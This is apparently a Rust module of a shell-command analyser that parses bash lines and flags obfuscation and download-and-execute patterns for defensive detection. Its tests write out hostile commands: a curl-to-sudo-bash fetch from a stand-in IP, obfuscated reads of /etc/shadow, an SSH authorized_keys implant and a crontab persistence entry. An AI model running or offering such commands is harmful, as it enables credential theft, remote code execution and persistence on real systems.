//! Walks the bash parser's syntax tree and collects the simple commands a line runs, expanding
//! words, looking through wrappers, resolving glob paths to binaries and decoding data piped
//! into interpreters.

use super::decode::{self, SHELLS};
use super::glob;
use super::words::{self, Trick};
use super::wrappers::{self, Inner};
use super::{
    CommandLine, MAX_COMMANDS, MAX_DECODED_BYTES, MAX_DEPTH, Obfuscation, Origin, Redirect, SimpleCommand, Variables,
    fallback,
};
use brush_parser::ast;

/// Analyses `text` and appends what it runs to `line`.
pub fn analyse(text: &str, variables: &mut Variables, origin: Origin, depth: usize, line: &mut CommandLine) {
    if depth > MAX_DEPTH || text.len() > MAX_DECODED_BYTES || line.commands.len() >= MAX_COMMANDS {
        return;
    }
    let options = brush_parser::ParserOptions::default();
    let mut parser = brush_parser::Parser::new(std::io::BufReader::new(text.as_bytes()), &options);
    match parser.parse_program() {
        Ok(program) => {
            let mut walker = Walker { variables, origin, depth, line };
            for list in &program.complete_commands {
                walker.compound_list(list);
            }
        }
        Err(_) => {
            if depth == 0 {
                line.parse_failed = true;
            }
            for pipeline in fallback::split_commands(text) {
                let stages: Vec<Vec<String>> = pipeline;
                let programs: Vec<String> =
                    stages.iter().map(|words| decode::base_name(&words[0]).to_string()).collect();
                for (position, words) in stages.iter().enumerate() {
                    let raw = RawCommand {
                        words: words.clone(),
                        assignments: Vec::new(),
                        redirects: Vec::new(),
                        tricks: Vec::new(),
                    };
                    let mut walker = Walker { variables, origin: origin.clone(), depth, line };
                    walker.emit(raw, &programs, position);
                }
            }
        }
    }
}

/// A simple command after word expansion, before unwrapping.
struct RawCommand {
    words: Vec<String>,
    assignments: Vec<(String, String)>,
    redirects: Vec<Redirect>,
    /// Tricks in the program word (`.0 == true`) or in arguments.
    tricks: Vec<(bool, Trick)>,
}

struct Walker<'a> {
    variables: &'a mut Variables,
    origin: Origin,
    depth: usize,
    line: &'a mut CommandLine,
}

impl Walker<'_> {
    fn compound_list(&mut self, list: &ast::CompoundList) {
        for ast::CompoundListItem(and_or, _) in &list.0 {
            self.pipeline(&and_or.first);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(pipeline) | ast::AndOr::Or(pipeline) => self.pipeline(pipeline),
                }
            }
        }
    }

    fn pipeline(&mut self, pipeline: &ast::Pipeline) {
        let mut raws: Vec<Option<RawCommand>> = Vec::new();
        for command in &pipeline.seq {
            match command {
                ast::Command::Simple(simple) => raws.push(self.expand_simple(simple)),
                ast::Command::Compound(compound, redirects) => {
                    self.compound(compound);
                    if let Some(redirects) = redirects {
                        let _ = self.redirects(&redirects.0);
                    }
                    raws.push(None);
                }
                ast::Command::Function(definition) => {
                    self.compound(&definition.body.0);
                    raws.push(None);
                }
                ast::Command::ExtendedTest(..) => raws.push(None),
            }
        }
        let programs: Vec<String> = raws
            .iter()
            .map(|raw| {
                raw.as_ref()
                    .and_then(|raw| raw.words.first())
                    .map(|word| decode::base_name(word).to_string())
                    .unwrap_or_default()
            })
            .collect();
        self.decode_into_interpreter(&raws);
        for (position, raw) in raws.into_iter().enumerate() {
            if let Some(raw) = raw {
                self.emit(raw, &programs, position);
            }
        }
    }

    fn compound(&mut self, compound: &ast::CompoundCommand) {
        match compound {
            ast::CompoundCommand::BraceGroup(group) => self.compound_list(&group.list),
            ast::CompoundCommand::Subshell(subshell) => self.compound_list(&subshell.list),
            ast::CompoundCommand::ForClause(clause) => {
                for word in clause.values.iter().flatten() {
                    self.substitutions_of(&word.value);
                }
                self.compound_list(&clause.body.list);
            }
            ast::CompoundCommand::ArithmeticForClause(clause) => self.compound_list(&clause.body.list),
            ast::CompoundCommand::CaseClause(clause) => {
                for item in &clause.cases {
                    if let Some(list) = &item.cmd {
                        self.compound_list(list);
                    }
                }
            }
            ast::CompoundCommand::IfClause(clause) => {
                self.compound_list(&clause.condition);
                self.compound_list(&clause.then);
                for other in clause.elses.iter().flatten() {
                    if let Some(condition) = &other.condition {
                        self.compound_list(condition);
                    }
                    self.compound_list(&other.body);
                }
            }
            ast::CompoundCommand::WhileClause(clause) | ast::CompoundCommand::UntilClause(clause) => {
                self.compound_list(&clause.0);
                self.compound_list(&clause.1.list);
            }
            ast::CompoundCommand::Arithmetic(_) | ast::CompoundCommand::Coprocess(_) => {}
        }
    }

    fn substitutions_of(&mut self, raw: &str) {
        let expanded = words::expand(raw, self.variables, self.depth);
        for text in expanded.substitutions {
            analyse(&text, self.variables, Origin::Substitution, self.depth + 1, self.line);
        }
    }

    fn expand_word(&mut self, raw: &str, in_program: bool, tricks: &mut Vec<(bool, Trick)>) -> Vec<String> {
        let expanded = words::expand(raw, self.variables, self.depth);
        for trick in expanded.tricks {
            tricks.push((in_program, trick));
        }
        for text in &expanded.substitutions {
            analyse(text, self.variables, Origin::Substitution, self.depth + 1, self.line);
        }
        expanded.fields
    }

    fn expand_simple(&mut self, simple: &ast::SimpleCommand) -> Option<RawCommand> {
        let mut raw =
            RawCommand { words: Vec::new(), assignments: Vec::new(), redirects: Vec::new(), tricks: Vec::new() };
        let mut tricks = Vec::new();
        let items = simple.prefix.iter().flat_map(|prefix| prefix.0.iter());
        for item in items {
            self.prefix_or_suffix(item, &mut raw, &mut tricks, true);
        }
        if let Some(word) = &simple.word_or_name {
            let fields = self.expand_word(&word.value, true, &mut tricks);
            raw.words.extend(fields);
        }
        for item in simple.suffix.iter().flat_map(|suffix| suffix.0.iter()) {
            self.prefix_or_suffix(item, &mut raw, &mut tricks, false);
        }
        raw.tricks = tricks;
        if raw.words.is_empty() {
            // Assignments alone set session variables for later commands.
            for (name, value) in &raw.assignments {
                self.variables.set(name, value.clone());
            }
            return None;
        }
        if matches!(raw.words[0].as_str(), "export" | "declare" | "typeset" | "local" | "readonly") {
            for word in &raw.words[1..] {
                if let Some((name, value)) = word.split_once('=') {
                    self.variables.set(name, value.to_string());
                }
            }
        }
        Some(raw)
    }

    fn prefix_or_suffix(
        &mut self,
        item: &ast::CommandPrefixOrSuffixItem,
        raw: &mut RawCommand,
        tricks: &mut Vec<(bool, Trick)>,
        prefix: bool,
    ) {
        match item {
            ast::CommandPrefixOrSuffixItem::Word(word) => {
                let fields = self.expand_word(&word.value, false, tricks);
                raw.words.extend(fields);
            }
            ast::CommandPrefixOrSuffixItem::AssignmentWord(assignment, word) => {
                let name = match &assignment.name {
                    ast::AssignmentName::VariableName(name) | ast::AssignmentName::ArrayElementName(name, _) => {
                        name.clone()
                    }
                };
                let value = match &assignment.value {
                    ast::AssignmentValue::Scalar(value) => self.expand_word(&value.value, false, tricks).join(" "),
                    ast::AssignmentValue::Array(values) => {
                        values.iter().map(|(_, value)| value.value.clone()).collect::<Vec<_>>().join(" ")
                    }
                };
                if prefix {
                    raw.assignments.push((name, value));
                } else {
                    raw.words.push(word.value.clone());
                }
            }
            ast::CommandPrefixOrSuffixItem::IoRedirect(redirect) => {
                raw.redirects.extend(self.redirects(std::slice::from_ref(redirect)));
            }
            ast::CommandPrefixOrSuffixItem::ProcessSubstitution(_, subshell) => {
                self.compound_list(&subshell.list);
                raw.words.push("/dev/fd/63".to_string());
            }
        }
    }

    fn redirects(&mut self, redirects: &[ast::IoRedirect]) -> Vec<Redirect> {
        let mut out = Vec::new();
        let mut ignored = Vec::new();
        for redirect in redirects {
            match redirect {
                ast::IoRedirect::File(_, kind, target) => {
                    let operator = match kind {
                        ast::IoFileRedirectKind::Read => "<",
                        ast::IoFileRedirectKind::Write => ">",
                        ast::IoFileRedirectKind::Append => ">>",
                        ast::IoFileRedirectKind::ReadAndWrite => "<>",
                        ast::IoFileRedirectKind::Clobber => ">|",
                        ast::IoFileRedirectKind::DuplicateInput => "<&",
                        ast::IoFileRedirectKind::DuplicateOutput => ">&",
                    };
                    let target = match target {
                        ast::IoFileRedirectTarget::Filename(word) | ast::IoFileRedirectTarget::Duplicate(word) => {
                            self.expand_word(&word.value, false, &mut ignored).join(" ")
                        }
                        ast::IoFileRedirectTarget::Fd(fd) => fd.to_string(),
                        ast::IoFileRedirectTarget::ProcessSubstitution(_, subshell) => {
                            self.compound_list(&subshell.list);
                            "/dev/fd/63".to_string()
                        }
                    };
                    out.push(Redirect { operator: operator.to_string(), target });
                }
                ast::IoRedirect::HereDocument(_, document) => {
                    let body = if document.requires_expansion {
                        self.expand_word(
                            &format!("\"{}\"", document.doc.value.replace('"', "\\\"")),
                            false,
                            &mut ignored,
                        )
                        .join(" ")
                    } else {
                        document.doc.value.clone()
                    };
                    out.push(Redirect { operator: "<<".to_string(), target: body });
                }
                ast::IoRedirect::HereString(_, word) => {
                    let text = self.expand_word(&word.value, false, &mut ignored).join(" ");
                    out.push(Redirect { operator: "<<<".to_string(), target: text });
                }
                ast::IoRedirect::OutputAndError(word, append) => {
                    let target = self.expand_word(&word.value, false, &mut ignored).join(" ");
                    out.push(Redirect { operator: if *append { "&>>" } else { "&>" }.to_string(), target });
                }
            }
        }
        out
    }

    /// Data produced by earlier stages (or a here-string/here-document) and fed to a shell or
    /// interpreter is decoded and analysed as if typed.
    fn decode_into_interpreter(&mut self, raws: &[Option<RawCommand>]) {
        let Some(Some(last)) = raws.last() else {
            return;
        };
        let (_, inner) = wrappers::unwrap(&last.words);
        let Inner::Exec(words) = inner else {
            return;
        };
        let Some(program) = words.first().map(|word| decode::base_name(word).to_string()) else {
            return;
        };
        let reads_stdin_script = words.iter().skip(1).all(|word| word.starts_with('-'));
        let is_shell = SHELLS.contains(&program.as_str());
        let is_python = program.starts_with("python") || program == "perl";
        if !reads_stdin_script || !(is_shell || is_python) {
            return;
        }
        // Code fetched from the network and run directly never appears in the recording.
        let fetched_from = raws[..raws.len() - 1].iter().flatten().find_map(|raw| {
            let program = decode::base_name(raw.words.first()?);
            if !matches!(program, "curl" | "wget" | "fetch" | "nc" | "ncat") {
                return None;
            }
            Some(
                raw.words
                    .iter()
                    .skip(1)
                    .find(|word| word.contains("://") || word.contains('.'))
                    .cloned()
                    .unwrap_or_default(),
            )
        });
        if let Some(source) = fetched_from {
            self.line.obfuscations.push(Obfuscation {
                technique: "download-and-execute".to_string(),
                decodes: false,
                revealed: source,
            });
            return;
        }
        let fed = last.redirects.iter().find(|redirect| redirect.operator == "<<<" || redirect.operator == "<<");
        let (script, steps) = if let Some(fed) = fed {
            (fed.target.clone(), vec![if fed.operator == "<<<" { "here-string" } else { "here-document" }.to_string()])
        } else if raws.len() > 1 {
            let mut stages = Vec::new();
            for raw in &raws[..raws.len() - 1] {
                let Some(raw) = raw else {
                    return;
                };
                let mut stage = decode::stage_from_words(&raw.words);
                if let Some(fed) =
                    raw.redirects.iter().find(|redirect| redirect.operator == "<<<" || redirect.operator == "<<")
                {
                    stage.input =
                        Some(if fed.operator == "<<<" { format!("{}\n", fed.target) } else { fed.target.clone() });
                }
                stages.push(stage);
            }
            match decode::run_static(&stages) {
                Some((output, mut steps)) => {
                    steps.insert(0, "pipe".to_string());
                    (output, steps)
                }
                None => return,
            }
        } else {
            return;
        };
        let decodes = steps.iter().any(|step| !matches!(step.as_str(), "pipe" | "here-string" | "here-document"));
        self.line.obfuscations.push(Obfuscation {
            technique: if decodes {
                steps.iter().filter(|step| *step != "pipe").cloned().collect::<Vec<_>>().join("+")
            } else {
                format!("{}-into-{program}", steps.join("+"))
            },
            decodes,
            revealed: script.chars().take(512).collect(),
        });
        self.line.decoded.push(script.clone());
        let origin = Origin::Decoded(steps.join("+"));
        if is_shell {
            analyse(&script, self.variables, origin, self.depth + 1, self.line);
        } else {
            for command in decode::interpreter_commands(&script, self.depth + 1) {
                analyse(&command, self.variables, origin.clone(), self.depth + 1, self.line);
            }
        }
    }

    /// Looks through wrappers and records the command (and what wrappers run).
    fn emit(&mut self, raw: RawCommand, pipeline_programs: &[String], position: usize) {
        if self.line.commands.len() >= MAX_COMMANDS {
            return;
        }
        let mut words = raw.words;
        if let Some(resolved) = words.first().and_then(|program| glob::resolve_glob(program)) {
            self.line.obfuscations.push(Obfuscation {
                technique: "glob-path".to_string(),
                decodes: false,
                revealed: resolved.clone(),
            });
            words[0] = resolved;
        }
        for (in_program, trick) in &raw.tricks {
            // Quotes in an argument are ordinary; in a name or a path they hide it.
            let hides = *in_program
                || *trick != Trick::QuoteSplitting
                || words.iter().skip(1).any(|word| word.starts_with('/'));
            if hides && !matches!(trick, Trick::VariableAssembly if !*in_program) {
                self.line.obfuscations.push(Obfuscation {
                    technique: trick.name().to_string(),
                    decodes: matches!(trick, Trick::EvaluatedSubstitution | Trick::AnsiCEscapes),
                    revealed: words.join(" ").chars().take(512).collect(),
                });
            }
        }
        let piped_from: Vec<String> =
            pipeline_programs[..position].iter().filter(|program| !program.is_empty()).cloned().collect();
        let piped_to: Vec<String> =
            pipeline_programs[position + 1..].iter().filter(|program| !program.is_empty()).cloned().collect();
        let (wrappers, inner) = wrappers::unwrap(&words);
        let context_wrapper =
            words.first().map(|word| decode::base_name(word)).filter(|program| wrappers::CONTEXT.contains(program));
        let make = |words: &[String], wrappers: Vec<String>, origin: Origin| -> Option<SimpleCommand> {
            let path = words.first()?.clone();
            Some(SimpleCommand {
                program: decode::base_name(&path).to_string(),
                path,
                args: words[1..].to_vec(),
                assignments: raw.assignments.clone(),
                redirects: raw.redirects.clone(),
                wrappers,
                piped_from: piped_from.clone(),
                piped_to: piped_to.clone(),
                origin,
            })
        };
        match inner {
            Inner::Exec(inner_words) => {
                if let Some(command) = make(&inner_words, wrappers, self.origin.clone()) {
                    self.line.commands.push(command);
                }
            }
            Inner::Script { wrapper, script } => {
                if let Some(command) = make(&words, Vec::new(), self.origin.clone()) {
                    self.line.commands.push(command);
                }
                if wrapper == "eval" {
                    self.line.obfuscations.push(Obfuscation {
                        technique: "eval".to_string(),
                        decodes: false,
                        revealed: script.chars().take(512).collect(),
                    });
                }
                analyse(&script, self.variables, Origin::Wrapped(wrapper), self.depth + 1, self.line);
            }
            Inner::Code { wrapper, code } => {
                if let Some(command) = make(&words, Vec::new(), self.origin.clone()) {
                    self.line.commands.push(command);
                }
                if decode::has_encoded_payload(&code) {
                    let revealed = decode::interpreter_commands(&code, self.depth + 1).join("; ");
                    self.line.obfuscations.push(Obfuscation {
                        technique: format!("encoded-{wrapper}-payload"),
                        decodes: true,
                        revealed: revealed.chars().take(512).collect(),
                    });
                    self.line.decoded.push(revealed);
                }
                let origin = if decode::has_encoded_payload(&code) {
                    Origin::Decoded(wrapper.clone())
                } else {
                    Origin::Wrapped(wrapper.clone())
                };
                for command in decode::interpreter_commands(&code, self.depth + 1) {
                    analyse(&command, self.variables, origin.clone(), self.depth + 1, self.line);
                }
            }
        }
        if let Some(context) = context_wrapper {
            // `kubectl exec pod -- sh -c '...'`, `ssh host cmd`, `chroot /host sh`: the inner
            // command is analysed too.
            if let Some(separator) = words
                .iter()
                .position(|word| word == "--")
                .filter(|_| matches!(context, "kubectl" | "docker" | "podman" | "crictl" | "nsenter"))
            {
                let inner = words[separator + 1..].join(" ");
                analyse(&inner, self.variables, Origin::Wrapped(context.to_string()), self.depth + 1, self.line);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::understand;
    use super::*;

    fn programs(text: &str) -> Vec<String> {
        let mut variables = Variables::default();
        understand(text, &mut variables).commands.iter().map(|command| command.text()).collect()
    }

    #[test]
    fn walks_pipelines_lists_and_compounds() {
        assert_eq!(
            programs("cd /tmp && ls -la | grep x; (id); { whoami; }"),
            vec!["cd /tmp", "ls -la", "grep x", "id", "whoami"]
        );
        assert_eq!(programs("for f in *.log; do gzip $f; done"), vec!["gzip $f"]);
        assert_eq!(programs("if [ -f x ]; then rm x; fi"), vec!["[ -f x ]", "rm x"]);
    }

    #[test]
    fn resolves_obfuscation() {
        let mut variables = Variables::default();
        let line = understand("a=cu;b=rl;$a$b -s http://203.0.113.7/x", &mut variables);
        assert_eq!(line.commands[0].program, "curl");
        assert!(line.obfuscations.iter().any(|o| o.technique == "variable-assembly"));
        let line = understand("/???/?at /etc/shadow", &mut variables);
        assert_eq!(line.commands[0].path, "/bin/cat");
        let line = understand("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | bash", &mut variables);
        assert!(line.commands.iter().any(|command| command.text() == "cat /etc/shadow"), "{:?}", line.commands);
        assert!(line.obfuscations.iter().any(|o| o.decodes));
        let line = understand("bash <<< 'cat /etc/shadow'", &mut variables);
        assert!(line.commands.iter().any(|command| command.text() == "cat /etc/shadow"));
        let line = understand("sudo sh -c 'echo key >> /root/.ssh/authorized_keys'", &mut variables);
        assert!(line.commands.iter().any(|command| command.program == "echo" && command.redirects[0].target == "/root/.ssh/authorized_keys"));
        let line = understand("python3 -c 'import os; os.system(\"cat /etc/shadow\")'", &mut variables);
        assert!(line.commands.iter().any(|command| command.text() == "cat /etc/shadow"));
        let line = understand("c''at /e\"\"tc/sha\\dow", &mut variables);
        assert_eq!(line.commands[0].text(), "cat /etc/shadow");
        assert!(!line.obfuscations.is_empty());
    }

    #[test]
    fn pipeline_neighbours_and_redirects() {
        let mut variables = Variables::default();
        let line = understand("curl -fsSL http://203.0.113.7/i.sh | sudo bash", &mut variables);
        assert_eq!(line.commands[0].piped_to, vec!["sudo"]);
        assert_eq!(line.commands[1].program, "bash");
        assert_eq!(line.commands[1].wrappers, vec!["sudo"]);
        assert_eq!(line.commands[1].piped_from, vec!["curl"]);
        let line = understand("echo '* * * * * /tmp/x' >> /etc/crontab", &mut variables);
        assert_eq!(
            line.commands[0].redirects[0],
            Redirect { operator: ">>".to_string(), target: "/etc/crontab".to_string() }
        );
    }
}
